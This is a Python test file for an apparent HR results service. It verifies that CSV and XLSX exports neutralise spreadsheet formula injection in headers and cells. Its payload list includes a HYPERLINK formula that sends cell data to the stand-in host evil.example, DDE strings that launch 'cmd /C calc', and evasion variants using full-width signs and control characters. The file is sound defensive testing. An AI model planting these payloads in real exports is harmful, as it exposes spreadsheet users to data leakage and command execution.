"""Exports keep every formula-like text as text: headers (dimension names) and cells alike."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from conftest import App
from scorebridge.kit import spreadsheets
from vendor_support import create_vendor, send, standard_data

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    '＝HYPERLINK("http://evil.example")',  # full-width equals sign
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "  =1+1",
    "\u3000＝1+1",
    "\x01=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_defuse_rule(text: str) -> None:
    assert spreadsheets.is_formula_like(text.replace("\x01", ""))
    assert spreadsheets.defuse(text.replace("\x01", "")).startswith("'")
    cell = spreadsheets.xlsx_value(text)
    assert cell.startswith("'")
    assert "\x01" not in cell


def test_plain_text_and_numbers_stay() -> None:
    for value in ["张三", "-3.5", "+1", "1e5", 42, -2.5, None, "a=b", ""]:
        assert spreadsheets.defuse(value) == value


async def _export(app: App, fmt: str) -> bytes:
    hr = await app.user_headers("hr")
    response = await app.client.get(f"/api/v1/results/export?format={fmt}", headers=hr)
    assert response.status_code == 200, response.text
    return response.content


async def _hostile_result(app: App) -> None:
    await create_vendor(app)
    dimensions = [
        {"code": f"d{n}", "name": name, "score": 50, "max_score": 100}
        for n, name in enumerate(ATTACKS[:10])
    ]
    response = await send(app, standard_data(
        "inj-1", dimensions=dimensions, comment=ATTACKS[1], recommendation="=1+1",
        candidate={"employee_no": "X9", "name": "@SUM(A1)"},
        department={"code": "d-inj", "name": "＝HYPERLINK(\"http://evil\")"},
        position={"code": "p-inj", "name": "-1+1"},
    ))  # fmt: skip
    assert response.status_code == 202, response.text
    await app.run_jobs()


async def test_xlsx_export_has_no_formula_anywhere(app: App) -> None:
    await _hostile_result(app)
    sheet = load_workbook(io.BytesIO(await _export(app, "xlsx"))).active
    assert sheet is not None
    texts = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                texts.append(cell.value)
                assert not spreadsheets.is_formula_like(cell.value), cell.value
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"点我") (d0)' in header
    assert '\'＝HYPERLINK("http://evil.example") (d1)' in header
    assert "'@SUM(A1)" in texts
    assert "'-1+1" in texts


async def test_csv_export_has_no_formula_anywhere(app: App) -> None:
    await _hostile_result(app)
    text = (await _export(app, "csv")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2
    for value in rows[0] + rows[1]:
        assert not spreadsheets.is_formula_like(value), value
    assert '\'＝HYPERLINK("http://evil.example") (d1)' in rows[0]
    assert "'+cmd|' /C calc'!A0 (d2)" in rows[0]
    assert '\'＝HYPERLINK("http://evil")' in rows[1]
    assert "'=1+1" in rows[1]
